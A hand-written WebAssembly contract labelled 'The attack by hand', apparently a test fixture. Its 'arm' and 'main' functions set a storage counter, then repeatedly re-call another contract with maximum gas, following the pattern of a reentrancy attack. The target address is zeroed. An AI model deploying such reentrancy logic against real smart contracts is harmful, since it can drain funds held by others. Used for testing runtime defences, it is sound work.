;; The attack by hand.
(module
  (type $t0 (func (param i32 i32)))
  (type $t1 (func (param i32) (result i32)))
  (type $t2 (func (param i64 i32 i32 i32 i32) (result i32)))
  (type $t3 (func))
  (type $t4 (func (param i32)))
  (import "storage" "store_i32" (func $storage.store_i32 (type $t0)))
  (import "storage" "load_i32" (func $storage.load_i32 (type $t1)))
  (import "ethereum" "finish" (func $ethereum.finish (type $t0)))
  (import "ethereum" "call" (func $ethereum.call (type $t2)))
  (func $arm (type $t3)
    (call $storage.store_i32
      (i32.const 8)
      (i32.const 1)))
  (func $main (type $t3)
    (local $l0 i32) (local $l1 i32) (local $l2 i32)
    (global.set $g0
      (local.tee $l0
        (i32.sub
          (global.get $g0)
          (i32.const 16))))
    (i32.store16 offset=14
      (local.get $l0)
      (i32.const 258))
    (i32.store offset=8
      (local.get $l0)
      (i32.const 1634614002))
    (block $B0
      (block $B1
        (br_if $B1
          (i32.lt_s
            (call $storage.load_i32
              (i32.const 8))
            (i32.const 1)))
        (br_if $B0
          (i32.ge_s
            (local.tee $l2
              (i32.add
                (local.tee $l1
                  (call $storage.load_i32
                    (i32.const 8)))
                (i32.const -1)))
            (local.get $l1)))
        (call $storage.store_i32
          (i32.const 8)
          (local.get $l2))
        (call $f6
          (i32.add
            (local.get $l0)
            (i32.const 14))))
      (call $ethereum.finish
        (i32.add
          (local.get $l0)
          (i32.const 8))
        (i32.const 4)))
    (unreachable))
  (func $f6 (type $t4) (param $p0 i32)
    (local $l1 i32)
    (global.set $g0
      (local.tee $l1
        (i32.sub
          (global.get $g0)
          (i32.const 16))))
    (i64.store offset=8
      (local.get $l1)
      (i64.const 0))
    (i64.store
      (local.get $l1)
      (i64.const 0))
    (drop
      (call $ethereum.call
        (i64.const 9223372036854775807)
        (i32.const 65536)
        (local.get $l1)
        (local.get $p0)
        (i32.const 2)))
    (global.set $g0
      (i32.add
        (local.get $l1)
        (i32.const 16))))
  (table $T0 1 1 funcref)
  (memory $memory 2)
  (global $g0 (mut i32) (i32.const 65536))
  (export "memory" (memory $memory))
  (export "arm" (func $arm))
  (export "main" (func $main))
  (data $d0 (i32.const 65536) "\00\00\00\00\00\00\00\00\00\00\00\00\00\00\00\00\00\00\00 "))
